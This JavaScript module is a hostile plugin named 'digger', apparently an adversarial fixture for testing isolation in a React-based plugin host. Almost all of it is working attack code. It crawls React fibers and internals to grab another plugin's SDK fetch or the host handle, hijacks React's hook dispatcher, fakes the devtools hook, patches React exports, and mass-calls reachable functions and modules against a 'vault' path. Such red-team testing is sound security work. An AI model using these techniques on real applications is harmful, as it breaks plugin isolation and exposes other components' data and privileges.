// Searches React for what belongs to others.
import React, { createElement as h, useContext, useState } from 'react';
import * as jsxRuntime from 'react/jsx-runtime';

const INTERNALS = React.__CLIENT_INTERNALS_DO_NOT_USE_OR_WARN_USERS_THEY_CANNOT_UPGRADE;
const isObject = (value) => value !== null && (typeof value === 'object' || typeof value === 'function');
/** The sdk, a part of it, or another object that calls as the plugin. */
const isSdk = (id) => (value) => value.pluginId === id && typeof (value.api?.fetch ?? value.fetch) === 'function';
const isHost = (value) =>
  typeof value.getSnapshot === 'function' && typeof (value.fetch ?? value.loaded) === 'function';
const loot = [];
const keep = (...values) => loot.push(...values);

/** What `wanted` picks of everything reachable from `roots`. */
function search(roots, wanted, { limit = 300_000, skip = [] } = {}) {
  const seen = new Set();
  const queue = [...roots];
  for (let at = 0; at < queue.length && seen.size < limit; at++) {
    const value = queue[at];
    if (!isObject(value) || seen.has(value) || value === globalThis) continue;
    seen.add(value);
    try {
      if (wanted(value)) return value;
      if (value instanceof Map || value instanceof Set) queue.push(...value.values());
      for (const key of Reflect.ownKeys(value)) {
        if (skip.includes(key)) continue;
        const descriptor = Reflect.getOwnPropertyDescriptor(value, key);
        if ('value' in descriptor) queue.push(descriptor.value);
        else if (!(value instanceof Node)) queue.push(value[key]);
      }
    } catch {}
  }
  return null;
}
const nodes = () => [document.getElementById('root'), ...document.querySelectorAll('#root *')];
const fiberOf = (node) => node[Object.keys(node).find((key) => key.startsWith('__reactFiber$'))];

/** The fibers above a plugin's page, from its own component to the host's root. */
function fibersOf(id) {
  const found = [];
  let fiber = fiberOf(document.querySelector(`[data-plugin-page="${id}"]`));
  for (fiber = fiber.return; fiber !== null; fiber = fiber.return) found.push(fiber);
  return found;
}

const componentOf = (id) => fibersOf(id).find(({ type }) => typeof type === 'function');

async function use(roots, { id, vault, aim }) {
  if (aim === 'sdk') {
    const sdk = search(roots, isSdk(id));
    if (sdk === null) return 'no sdk';
    await (sdk.api?.fetch ?? sdk.fetch)(vault, {}).catch(String);
    return `the sdk of ${id}`;
  }
  const host = search(roots, isHost);
  if (host === null) return 'no host';
  const echoed = await host.fetch('/api/plugins/manifests').then((response) => response.status, String);
  await host.loaded?.(id)?.sdk?.api.fetch(vault).catch(String);
  return `the host: ${echoed}`;
}

/** Calls the function in every way that would make the call, and keeps what it returns. */
async function tryCall(run, vault, more = []) {
  const ways = [[vault], [vault, {}], [{ signal: null }], [{ target: vault, method: 'GET' }], [], ...more];
  for (const given of ways) {
    try {
      const result = run(...given);
      keep(result);
      if (typeof result?.then === 'function') keep(await Promise.race([result, new Promise((r) => setTimeout(r, 50))]));
    } catch {}
  }
}

/** A dispatcher that runs a component outside of React and keeps what passes through its hooks. */
const ownDispatcher = new Proxy(
  {},
  {
    get:
      (_, name) =>
      (...given) => {
        keep(...given);
        const [first, second] = given;
        const made = () => (typeof first === 'function' ? first() : first);
        const result = {
          useState: () => [made(), keep],
          useReducer: () => [second, keep],
          useMemo: made,
          useCallback: () => first,
          useRef: () => ({ current: first }),
          useContext: () => first._currentValue,
          useSyncExternalStore: () => second(),
          useEffect: () => keep(first()),
          useMemoCache: () => new Array(first).fill(Symbol.for('react.memo_cache_sentinel')),
        }[name]?.();
        keep(result);
        return result;
      },
  },
);

const stolen = { contexts: [], types: [], handle: null, client: null };
let Show = () => null;
let shows = 0;
let again = () => {};
const render = (Next) => {
  Show = Next;
  shows += 1;
  again();
};
const Spy = (props) => void keep(props, Object.values(props));

const attacks = {
  fibers: (argument) => use(nodes(), argument),
  seen: (argument) => use(loot, argument),
  /** The fibers of the host's own pages. */
  pages: async (argument) => {
    const found = [];
    for (const path of ['/', '/live', '/permissions', '/operator']) {
      globalThis.go(path);
      await new Promise((resolve) => setTimeout(resolve, 300));
      found.push(await use(nodes(), argument));
    }
    return found.join(', ');
  },
  /** Keeps the contexts, components and the handle that the victim's fibers show, for a render of its own. */
  steal: ({ id }) => {
    for (const { type, memoizedProps, dependencies } of fibersOf(id)) {
      if (type?.$$typeof === Symbol.for('react.context')) stolen.contexts.push([type, memoizedProps.value]);
      for (let each = dependencies?.firstContext; each; each = each.next) stolen.contexts.push([each.context, null]);
      if (typeof type === 'function') stolen.types.push([type, memoizedProps]);
      if (memoizedProps?.queryClient !== undefined) stolen.client = memoizedProps.queryClient;
    }
  },
  /** Renders its own component below every provider that it took, which reads every context. */
  contexts: () => {
    const Reader = () => {
      for (const [context] of stolen.contexts) keep(useContext(context));
      return null;
    };
    const providers = stolen.contexts.filter(([, value]) => value !== null);
    const below = providers.reduce((inner, [type, value]) => h(type, { value }, inner), h(Reader));
    render(() => below);
  },
  /** Renders the host's components with other arguments: its own component in place of each component. */
  components: ({ id }) => {
    const contribution = { kind: 'route', key: 'own', pluginId: id, path: `/${id}`, component: 'Page' };
    const forged = ([type, props]) => {
      const functions = Object.entries(props ?? {}).filter(([, value]) => typeof value === 'function');
      const spies = Object.fromEntries(functions.map(([name]) => [name, Spy]));
      const own = { ...props, ...spies, contribution, given: new Proxy({}, { get: (_, key) => keep(key) }) };
      return h(Boundary, { key: Math.random() }, h(type, own));
    };
    render(() => stolen.types.slice(0, 8).map(forged));
  },
  /** A provider of its own with the host's handle, and a query client that keeps every query. */
  provider: () => {
    const own = new stolen.client.constructor();
    globalThis.ownQueries = () => own.getQueryCache().getAll();
    const [Provider, props] = stolen.types.find(([, given]) => given?.queryClient !== undefined);
    render(() => h(Provider, { ...props, queryClient: own }, null));
  },
  queries: () => globalThis.ownQueries().map(({ queryHash }) => queryHash),
  /** Calls the victim's component as React does, under a dispatcher of its own. */
  call: async ({ id, vault }) => {
    const { type, memoizedProps } = componentOf(id);
    const real = INTERNALS.H;
    for (const props of [memoizedProps, {}, undefined, new Proxy({}, { get: (_, key) => keep(key) })]) {
      INTERNALS.H = ownDispatcher;
      try {
        keep(type(props));
      } catch {}
      INTERNALS.H = real;
    }
    for (const each of [...loot]) if (typeof each === 'function') await tryCall(each, vault);
    return loot.length;
  },
  /** Calls every function that the victim's fibers lead to. */
  functions: async ({ id, vault }) => {
    const found = new Set();
    const roots = fibersOf(id)
      .slice(0, 8)
      .flatMap(({ memoizedProps, memoizedState, updateQueue }) => [memoizedProps, memoizedState, updateQueue]);
    search(roots, (value) => void (typeof value === 'function' && found.add(value)), {
      // `go` is the router's: it reloads the document.
      skip: ['return', 'child', 'sibling', 'alternate', 'stateNode', 'prototype', 'constructor', 'go'],
    });
    for (const each of [...found].slice(0, 3_000)) await tryCall(each, vault);
    return found.size;
  },
  /** Imports every module of the host's build, and calls what it exports. */
  chunks: async ({ id, vault, aim }) => {
    const { integrity } = JSON.parse(document.querySelector('script[type=importmap]').textContent);
    const handle = search(nodes(), (value) => !Reflect.getPrototypeOf(value) && Object.isFrozen(value));
    for (const url of Object.keys(integrity)) {
      const module = await import(url);
      keep(module);
      for (const each of url.includes('/vendor/') ? [] : Object.values(module)) {
        if (typeof each === 'function') await tryCall(each, vault, [[handle], [handle, vault]]);
      }
    }
    return `${Object.keys(integrity).length} modules, ${await use(loot, { id, vault, aim })}`;
  },
  /** Sets the state of the victim's component, and presses its button. */
  drive: async ({ id, mark }) => {
    for (let hook = componentOf(id).memoizedState; hook !== null; hook = hook.next) {
      if (hook.memoizedState === 0) hook.queue?.dispatch?.(mark);
    }
    const button = document.querySelector(`[data-plugin-page="${id}"] button`);
    while (!button.textContent.includes(mark)) await new Promise((resolve) => setTimeout(resolve, 10));
    button.click();
  },
  /** Fills in the host's form for a call as a plugin, and sends it. */
  tryCall: async ({ id, vault }) => {
    globalThis.go('/permissions');
    const form = () => search(nodes(), (value) => typeof value.onChange === 'function' && isObject(value.attempt));
    const button = () =>
      [...document.querySelectorAll('button')].find((each) => /through the sdk/i.test(each.textContent));
    while (form() === null || button() === undefined) await new Promise(requestAnimationFrame);
    form().onChange({ kind: 'api', method: 'GET', pluginId: id, path: vault });
    await new Promise((resolve) => setTimeout(resolve, 300));
    button().click();
  },
  /** Asks the victim's query again. */
  requery: async ({ id }) => {
    const observer = search(nodes(), (value) => value.options?.queryKey?.[1] === id && value.refetch !== undefined);
    const { data } = await observer.refetch();
    return JSON.stringify(data);
  },
  // React reads its dispatcher from this object before each render, so a wrapper sees every hook of every component.
  dispatcher: () => {
    let current = INTERNALS.H;
    const wrapped = new WeakMap();
    const wrap = (dispatcher) => {
      if (!isObject(dispatcher)) return dispatcher;
      if (!wrapped.has(dispatcher)) {
        const get = (target, name) => {
          const real = target[name];
          if (typeof real !== 'function') return real;
          return (...given) => {
            const result = Reflect.apply(real, target, given);
            keep(...given, result);
            return result;
          };
        };
        wrapped.set(dispatcher, new Proxy(dispatcher, { get }));
      }
      return wrapped.get(dispatcher);
    };
    const set = (dispatcher) => {
      current = dispatcher;
    };
    Object.defineProperty(INTERNALS, 'H', { configurable: true, get: () => wrap(current), set });
  },
  devtools: () => {
    globalThis.__REACT_DEVTOOLS_GLOBAL_HOOK__ = {
      renderers: new Map(),
      supportsFiber: true,
      inject: keep,
      onCommitFiberRoot: keep,
    };
  },
  peers: () => {
    const patch = (target, name) => {
      const real = target?.[name];
      if (typeof real !== 'function') return;
      try {
        target[name] = (...given) => {
          keep(...given);
          return real(...given);
        };
      } catch {}
    };
    for (const target of [React, jsxRuntime.default, jsxRuntime]) {
      for (const name of Object.keys(target ?? {})) patch(target, name);
    }
    return React.createElement === h ? 'sealed' : 'patched';
  },
};

class Boundary extends React.Component {
  state = { failed: false };
  static getDerivedStateFromError = () => ({ failed: true });
  render() {
    return this.state.failed ? null : this.props.children;
  }
}

export default (given) => {
  if (given.pluginId === 'digger') globalThis.attack = (name, argument) => attacks[name](argument);
  return {
    routes: {
      Page: ({ navigate }) => {
        globalThis.go = navigate;
        const [, set] = useState(0);
        again = () => set(Math.random());
        return h('div', { 'data-plugin-page': 'digger' }, 'digger', h(Boundary, { key: shows }, h(Show)));
      },
    },
  };
};
